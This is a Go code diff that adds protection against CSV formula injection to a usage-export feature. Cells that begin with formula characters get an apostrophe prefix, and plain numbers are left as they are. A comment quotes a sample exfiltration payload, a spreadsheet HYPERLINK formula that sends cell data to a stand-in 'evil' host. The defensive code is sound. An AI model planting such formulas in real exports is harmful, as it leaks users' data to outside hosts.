@@ -6,7 +6,9 @@ import (
 	"fmt"
 	"io"
 	"math"
+	"regexp"
 	"strconv"
+	"strings"
 
 	"mcpdesk/backend/store"
 )
@@ -36,7 +38,7 @@ var tokenHeader = []string{"calls", "prompt_tokens", "completion_tokens", "cache
 // lack one and what the priced ones cost. A missing price never becomes a
 // number in cost_usd.
 func (e *Engine) WriteCSV(ctx context.Context, w io.Writer, q UsageQuery, by string) error {
-	cw := csv.NewWriter(w)
+	cw := safeCSV{csv.NewWriter(w)}
 	cw.UseCRLF = true
 	var err error
 	switch by {
@@ -57,7 +59,7 @@ func (e *Engine) WriteCSV(ctx context.Context, w io.Writer, q UsageQuery, by str
 	return nil
 }
 
-func (e *Engine) writeBreakdown(ctx context.Context, cw *csv.Writer, q UsageQuery, by string) error {
+func (e *Engine) writeBreakdown(ctx context.Context, cw safeCSV, q UsageQuery, by string) error {
 	limit := summaryConversations
 	if by == ByConversation {
 		limit = 0
@@ -131,7 +133,7 @@ func formatUSD(v float64) string {
 	return strconv.FormatFloat(math.Round(v*1e6)/1e6, 'f', -1, 64)
 }
 
-func (e *Engine) writeCalls(ctx context.Context, cw *csv.Writer, q UsageQuery) error {
+func (e *Engine) writeCalls(ctx context.Context, cw safeCSV, q UsageQuery) error {
 	sp, err := e.span(q)
 	if err != nil {
 		return err
@@ -164,4 +166,34 @@ func (e *Engine) writeCalls(ctx context.Context, cw *csv.Writer, q UsageQuery) e
 		}
 		return ctx.Err()
 	})
+}
+
+// safeCSV writes every row through csvCell: the exports hold names a
+// model or another program chose (conversation titles, model names), and
+// a spreadsheet runs a cell such as =HYPERLINK("https://evil/?"&A1) as a
+// formula.
+type safeCSV struct{ *csv.Writer }
+
+// Write writes one row with its cells neutralised.
+func (w safeCSV) Write(row []string) error {
+	cells := make([]string, len(row))
+	for i, c := range row {
+		cells[i] = csvCell(c)
+	}
+	return w.Writer.Write(cells)
+}
+
+// plainNumber matches a number as we write them (a count, a cost), which
+// a spreadsheet reads as a number and never as a formula.
+var plainNumber = regexp.MustCompile(`^[-+]?[0-9]+(\.[0-9]+)?([eE][-+]?[0-9]+)?$`)
+
+// csvCell returns s with a ' before it when a spreadsheet would take it
+// for a formula: when it starts with =, +, -, @, a tab or a carriage
+// return (OWASP, "CSV Injection"). A plain number keeps its sign and stays
+// a number: "-0.5" is not a formula, and a cost must remain summable.
+func csvCell(s string) string {
+	if s == "" || !strings.ContainsRune("=+-@\t\r", rune(s[0])) || plainNumber.MatchString(s) {
+		return s
+	}
+	return "'" + s
 }
